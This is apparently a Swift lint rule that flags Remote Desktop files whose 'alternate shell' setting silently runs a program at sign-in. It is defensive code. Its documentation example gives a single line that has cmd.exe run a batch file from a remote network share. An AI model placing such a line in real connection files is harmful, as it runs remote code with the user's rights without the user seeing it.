/// RDP806: the session starts a program instead of the desktop.
struct AlternateShell: LintRule {
  static let id = "RDP806"
  static let name = "alternate-shell"
  static let severity = Severity.error
  static let fixAvailability = FixAvailability.none
  static let documentation = RuleDocumentation(
    whatItChecks: """
      A non-empty `alternate shell` outside RemoteApp mode (RemoteApp files name their program \
      as `||alias` there): the program the remote session runs instead of the desktop.
      """,
    whyItMatters: """
      The command runs as soon as the user signs in, with the user's rights on the remote side \
      and whatever the file redirects, and nothing on the screen says it was the file's \
      choice. Microsoft does not document that the 2026 dialog shows it; it may not.
      """,
    example: "alternate shell:s:cmd.exe /c \\\\203.0.113.45\\share\\run.bat",
    fix: "None automatic: remove the line unless the command is your own.")

  func check(_ context: LintContext) -> [Diagnostic] {
    guard let line = context.effectiveLine(.alternateShell), !line.valueIsBlank else { return [] }
    let value = PlainText.trimmed(line.value)
    if value.hasPrefix("||"), context.integer(.remoteApplicationMode) == 1 { return [] }
    return [
      diagnostic(
        "the session starts \(context.show(value, key: line.key)) instead of the desktop, a command the user is not shown",
        at: context.valueRange(line))
    ]
  }
}
